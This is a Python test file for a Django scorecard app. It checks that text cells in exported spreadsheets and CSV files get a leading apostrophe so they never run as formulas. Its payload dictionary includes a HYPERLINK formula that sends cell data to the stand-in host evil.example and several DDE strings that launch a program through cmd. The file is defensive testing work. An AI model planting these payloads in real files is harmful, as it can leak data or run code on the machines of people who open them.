"""Formula injection: text people write, exported to a spreadsheet, never runs as a formula.

A cell that starts with ``= + - @``, a tab or a carriage return is a formula to Excel or
LibreOffice when the file is opened (``=HYPERLINK`` to leak data, ``cmd|…`` to run a
program). Every text cell of every workbook and csv people download gets a leading ``'``;
numbers and empty cells stay as they are (PITFALLS 2).
"""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from planning.models import Indicator, Perspective, StrategicObjective
from scorecard.exports import FORMULA_STARTS
from scorecard.imports.exporting import export_file
from scorecard.models import Measurement
from scorecard.resources import MeasurementResource
from tests.conftest import PLAN_CODE
from tests.security.test_stored_xss import submit_report

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "double_equals": "==1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}


def assert_no_live_formula(workbook_bytes: bytes, expected: list[str]) -> None:
    """No cell is a formula or text that a spreadsheet would run; each payload is there."""
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (sheet.title, cell.value)
                    texts.append(cell.value)
    for payload in expected:
        # The xlsx format keeps line ends as LF: a CR comes back as one.
        shown = "'" + payload.replace("\r", "\n")
        assert shown in texts, f"{payload!r} is not in the workbook, escaped"


def test_the_scorecard_workbook_neutralises_formulas_in_every_text(client, official_plan, director):
    payloads = list(FORMULAS.values())
    official_plan.name = payloads[0]
    official_plan.save()
    Perspective.objects.filter(plan=official_plan, code="GADP").update(name=payloads[1])
    StrategicObjective.objects.filter(plan=official_plan, code="OE1").update(
        name=payloads[2], short_name=payloads[3]
    )
    Indicator.objects.filter(plan=official_plan, code="11.1").update(
        name=payloads[4], unit_of_measure=payloads[5]
    )
    Indicator.objects.filter(plan=official_plan, code="11.2").update(name=payloads[6])
    client.force_login(director)
    response = client.get(reverse("scorecard-xlsx", args=[PLAN_CODE]), {"period": "2019"})
    assert response.status_code == 200
    assert_no_live_formula(response.content, payloads)


def test_the_units_template_neutralises_formulas_in_analysis_and_names(
    client, official_plan, reporter, unit
):
    indicator = Indicator.objects.get(plan=official_plan, code="11.1")
    indicator.responsible_unit = unit("PGI")
    indicator.name = FORMULAS["plus"]
    indicator.save()
    client.force_login(reporter)
    submit_report(client, "2018", FORMULAS["equals"])
    url = reverse("import-template")
    response = client.get(url, {"plan": PLAN_CODE, "unidad": "PGI", "periodo": "2018"})
    assert response.status_code == 200
    assert_no_live_formula(response.content, [FORMULAS["equals"], FORMULAS["plus"]])


@pytest.mark.parametrize("name", sorted(FORMULAS))
def test_exported_values_neutralise_an_analysis_that_starts_like_a_formula(
    official_plan, reporter, unit, name
):
    indicator = Indicator.objects.get(plan=official_plan, code="11.1")
    Measurement.objects.create(indicator=indicator, period="2018", value=1, analysis=FORMULAS[name])
    rows = MeasurementResource.queryset_for(official_plan)
    text = export_file(MeasurementResource(), rows, "csv").decode("utf-8-sig")
    assert "'" + FORMULAS[name].replace('"', '""') in text
    assert_no_live_formula(export_file(MeasurementResource(), rows, "xlsx"), [FORMULAS[name]])
